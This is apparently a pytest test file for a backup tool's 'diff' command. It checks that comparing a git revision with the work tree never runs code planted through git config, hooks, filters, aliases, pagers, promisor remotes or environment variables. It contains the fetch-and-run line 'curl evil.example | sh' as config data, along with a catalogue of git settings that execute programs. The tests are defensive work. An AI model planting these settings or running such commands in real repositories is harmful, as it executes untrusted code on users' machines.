"""`diff REV:PATH PATH` in repositories whose branches and settings want to run something, or to hide a change.

Whatever is planted leaves a marker when it runs; none may be there afterwards, and the change has to be told.
"""

from __future__ import annotations

import os
import shutil
import subprocess
from collections.abc import Callable

import pytest

from tests.command_line.place import FLAT, Place

pytestmark = pytest.mark.skipif(not shutil.which("git"), reason="there is no git")

CHANGE = "+ curl evil.example | sh\n"
OLD = f"{FLAT}before_backup: [echo one]\n"
NEW = f"{FLAT}before_backup: [curl evil.example | sh]\n"


def git(place: Place, *words: str, directory: str = ".", **environment: str) -> str:
    who = (
        "-c",
        "user.name=anna",
        "-c",
        "user.email=anna@example.org",
        "-c",
        "protocol.allow=always",
    )
    done = subprocess.run(
        ("git", *who, *words), cwd=place.path / directory, env={**place.environment, **environment},
        check=True, capture_output=True, text=True,
    )  # fmt: skip
    return done.stdout.strip()


@pytest.fixture
def evil(place: Place) -> str:
    """A program that leaves a marker."""
    place.program("evil", f'echo "$0 $*" >> "{place.path}/marker"\nexit 1\n')
    return f"{place.path}/bin/evil"


@pytest.fixture
def work(place: Place, evil: str) -> Place:
    """A repository with the old state in its first commit, and the new one in its work tree."""
    del evil
    place.write("work/etc/c.yaml", OLD)
    git(place, "init", "-q", "-b", "main", directory="work")
    git(place, "add", "etc", directory="work")
    git(place, "commit", "-q", "-m", "a", directory="work")
    place.write("work/etc/c.yaml", NEW)
    return place


def told(place: Place, old: str = "main:etc", new: str = "etc", directory: str = "work") -> None:
    """The change is told, and nothing ran."""
    for more in ((), ("--untrusted",)):
        ran = place.run("diff", *more, old, new, directory=directory)
        assert CHANGE in ran.out, ran
        assert (ran.code, ran.err.count("borgplan diff:")) == (0, 0), ran
        assert not place.read("marker")


def refused(place: Place, old: str, new: str, why: str, directory: str = "work") -> None:
    ran = place.run("diff", old, new, directory=directory)
    assert ran.code == 2, ran
    assert why in ran.err
    assert not ran.out
    assert not place.read("marker")


def bare(place: Place, at: str, settings: str) -> None:
    """What git takes for a repository, as plain files of a branch; its HEAD has what the work tree has."""
    place.write("seed/etc/c.yaml", NEW)
    git(place, "init", "-q", "-b", "main", directory="seed")
    git(place, "add", "etc", directory="seed")
    git(place, "commit", "-q", "-m", "a", directory="seed")
    shutil.copytree(place.path / "seed/.git", place.path / at, dirs_exist_ok=True)
    config = place.path / at / "config"
    config.write_text(f"[core]\n\trepositoryformatversion = 0\n{settings}")


PLANTS: dict[str, Callable[[str, Place], str]] = {
    "bare": lambda _, __: "\tbare = true\n",
    "a work tree": lambda _, place: f"\tworktree = {place.path}/work\n",
    "fsmonitor": lambda evil, place: f"\tworktree = {place.path}/work\n\tfsmonitor = {evil}\n",
    "hooks": lambda evil, place: f"\tworktree = {place.path}/work\n\thooksPath = {os.path.dirname(evil)}\n",
    "a pager": lambda evil, _: f"\tbare = true\n\tpager = {evil}\n[pager]\n\tls-tree = {evil}\n",
    "an alias": lambda evil, _: f"\tbare = true\n[alias]\n\tls-tree = !{evil}\n\trev-parse = !{evil}\n",
}  # fmt: skip


@pytest.mark.parametrize("plant", PLANTS)
@pytest.mark.parametrize("at", ["work/etc", "work/etc/deep", "work/etc/.git-like"])
def test_a_repository_of_plain_files_in_a_branch(
    work: Place, evil: str, plant: str, at: str
) -> None:
    bare(work, at, PLANTS[plant](evil, work))
    told(work)
    told(work, "main:etc/c.yaml", "etc/c.yaml")
    told(work, "main:c.yaml", "c.yaml", directory="work/etc")


def test_the_top_itself_looks_like_a_bare_repository(work: Place, evil: str) -> None:
    bare(work, "work", f"\tfsmonitor = {evil}\n")
    told(work)


# What the settings of the repository itself may hold: by `include.path` they can come from a branch.
SETTINGS = {
    "fsmonitor": "[core]\nfsmonitor = EVIL\n",
    "hooks": "[core]\nhooksPath = BIN\n",
    "a filter": '[filter "x"]\nsmudge = EVIL\nclean = EVIL\nprocess = EVIL\nrequired = true\n',
    "textconv": '[diff "x"]\ntextconv = EVIL\ncommand = EVIL\n[diff]\nexternal = EVIL\n',
    "an alias": "[alias]\nls-tree = !EVIL\ncat-file = !EVIL\nrev-parse = !EVIL\n",
    "a pager": "[core]\npager = EVIL\n[pager]\nls-tree = EVIL\ncat-file = EVIL\nrev-parse = EVIL\n",
    "an editor": "[core]\neditor = EVIL\naskPass = EVIL\nsshCommand = EVIL\ngitProxy = EVIL\n",
    "a helper": "[credential]\nhelper = !EVIL\n[core]\nalternateRefsCommand = EVIL\n",
    "maintenance": "[gc]\nauto = 1\n[maintenance]\nauto = true\nstrategy = incremental\n",
    "trace": "[trace2]\neventTarget = WORK/marker\nnormalTarget = WORK/marker\n",
    "signatures": "[log]\nshowSignature = true\n[gpg]\nprogram = EVIL\n",
}


@pytest.mark.parametrize("how", ["written", "included"])
@pytest.mark.parametrize("name", SETTINGS)
def test_what_a_repository_has_git_run(work: Place, evil: str, name: str, how: str) -> None:
    text = SETTINGS[name].replace("EVIL", evil).replace("BIN", os.path.dirname(evil))
    text = text.replace("WORK", str(work.path))
    if how == "included":
        work.write("work/etc/gitconfig", text)
        text = "[include]\npath = ../etc/gitconfig\n"
    with (work.path / "work/.git/config").open("a") as file:
        file.write(text)
    for hook in ("post-checkout", "reference-transaction", "pre-auto-gc", "post-index-change"):
        shutil.copy(evil, work.path / "bin" / hook)
        shutil.copy(evil, work.path / "work/.git/hooks" / hook)
    work.write("work/.gitattributes", "* filter=x diff=x export-subst ident\n")
    told(work)


PROMISORS = {
    "a local program": "[remote \"origin\"]\nurl = PLACE/seed\nuploadpack = EVIL\npromisor = true\n",
    "ssh": "[remote \"origin\"]\nurl = ssh://h/x\npromisor = true\n[core]\nsshCommand = EVIL\n",
    "ext": "[remote \"origin\"]\nurl = ext::EVIL\npromisor = true\n[protocol \"ext\"]\nallow = always\n",
    "a remote's program": "[remote \"origin\"]\nurl = x\nvcs = evil\npromisor = true\n",
    "a file": "[remote \"origin\"]\nurl = file://PLACE/seed\nuploadpack = EVIL\npromisor = true\n",
}  # fmt: skip


@pytest.mark.parametrize("name", PROMISORS)
def test_an_object_that_is_missing_is_not_fetched(work: Place, evil: str, name: str) -> None:
    shutil.copy(evil, work.path / "bin/git-remote-evil")
    blob = git(work, "rev-parse", "main:etc/c.yaml", directory="work")
    (work.path / "work/.git/objects" / blob[:2] / blob[2:]).unlink()
    text = PROMISORS[name].replace("EVIL", evil).replace("PLACE", str(work.path))
    with (work.path / "work/.git/config").open("a") as file:
        file.write(
            f"[core]\nrepositoryformatversion = 1\n[extensions]\npartialClone = origin\n{text}"
        )
    refused(work, "main:etc", "etc", "error BP101")


def test_alternates_and_replacements_change_nothing(work: Place) -> None:
    """A replacement would put the new blob in the place of the old one."""
    old = git(work, "rev-parse", "main:etc/c.yaml", directory="work")
    new = git(work, "hash-object", "-w", "etc/c.yaml", directory="work")
    git(work, "replace", old, new, directory="work")
    told(work)


@pytest.mark.parametrize("kind", ["tags", "heads"])
def test_a_name_that_stands_for_two_things_is_refused(work: Place, kind: str) -> None:
    """A tag of the name of a remote's branch comes before it."""
    git(work, "update-ref", "refs/remotes/origin/main", "main", directory="work")
    told(work, "origin/main:etc", "etc")
    git(work, "add", "etc", directory="work")
    git(work, "commit", "-q", "-m", "b", directory="work")
    git(work, "update-ref", f"refs/{kind}/origin/main", "HEAD", directory="work")
    refused(work, "origin/main:etc", "etc", "this name is ambiguous")
    told(work, "refs/remotes/origin/main:etc", "etc")


@pytest.mark.parametrize("what", ["a folder", "a file", "a plan"])
def test_a_file_of_the_name_of_a_revision(work: Place, what: str) -> None:
    match what:
        case "a folder":
            work.write("work/main:etc/c.yaml", NEW)
        case "a file":
            work.write("work/main:etc", NEW)
        case _:
            work.run("plan", "-o", "main:etc", "etc", directory="work")
    told(work)
    ran = work.run("diff", "./main:etc", "etc", directory="work")
    assert "no change" in ran.out


def test_a_file_with_a_colon_is_written_with_its_folder(place: Place) -> None:
    place.write("a:b.yaml", OLD)
    place.write("c.yaml", NEW)
    ran = place.run("diff", "a:b.yaml", "c.yaml")
    assert ran.code == 2
    assert "write ./a:b.yaml" in ran.err
    assert CHANGE in place.run("diff", "./a:b.yaml", "c.yaml").out


def nested(work: Place) -> None:
    """A folder of the work tree that is a repository of its own, and whose `main` has the new state."""
    shutil.rmtree(work.path / "work/etc")
    work.write("work/etc/c.yaml", NEW)
    git(work, "init", "-q", "-b", "main", directory="work/etc")
    git(work, "add", "c.yaml", directory="work/etc")
    git(work, "commit", "-q", "-m", "a", directory="work/etc")


def test_a_repository_in_the_repository_does_not_answer_for_it(work: Place) -> None:
    nested(work)
    told(work)
    path = f"{work.path}/work/etc"
    refused(work, f"main:{path}", path, "is a repository inside that of", directory=".")
    # Who goes in there means it.
    assert "no change" in work.run("diff", "main:c.yaml", "c.yaml", directory="work/etc").out


def test_a_submodule_does_not_answer_for_its_folder(work: Place) -> None:
    nested(work)
    shutil.move(work.path / "work/etc", work.path / "sub")
    git(work, "rm", "-q", "--cached", "-r", "etc", directory="work")
    git(work, "submodule", "--quiet", "add", "-b", "main", "../sub", "etc", directory="work")
    assert (work.path / "work/etc/.git").is_file()
    told(work)


def test_a_link_in_the_work_tree_leads_to_no_other_repository(work: Place) -> None:
    nested(work)
    shutil.move(work.path / "work/etc", work.path / "elsewhere")
    (work.path / "work/etc").symlink_to(work.path / "elsewhere")
    ran = work.run("diff", "main:etc", "etc", directory="work")
    assert CHANGE in ran.out
    assert not work.read("marker")


def test_variables_of_the_caller_lead_to_no_other_repository(work: Place) -> None:
    """As in a hook of git, which has them set for the repository it is for."""
    bare(work, "other.git", "\tbare = true\n")
    other = f"{work.path}/other.git"
    for variables in (
        {"GIT_DIR": other},
        {"GIT_DIR": other, "GIT_WORK_TREE": f"{work.path}/work"},
        {"GIT_OBJECT_DIRECTORY": f"{other}/objects"},
        {"GIT_CONFIG_PARAMETERS": f"'core.worktree={other}'"},
        {"GIT_NAMESPACE": "x", "GIT_INDEX_FILE": "/dev/null"},
    ):
        ran = work.run("diff", "main:etc", "etc", directory="work", **variables)
        assert CHANGE in ran.out, (variables, ran)


def test_a_folder_of_pattern_files_is_that_of_the_revision(work: Place) -> None:
    """A file that a branch has removed is still looked at where it was."""
    work.write("work/etc/c.yaml", f"{OLD}exclude_from: ['etc/excludes/*']\n")
    work.write("work/etc/excludes/one", "/home/secret\n")
    git(work, "add", "etc", directory="work")
    git(work, "commit", "-q", "-m", "b", directory="work")
    (work.path / "work/etc/excludes/one").unlink()
    work.write("work/etc/excludes/two", "/home/other\n")
    ran = work.run("diff", "main:etc/c.yaml", "etc/c.yaml", directory="work")
    assert "- ! fm:/home/secret\n" in ran.out
    assert "+ ! fm:/home/other\n" in ran.out
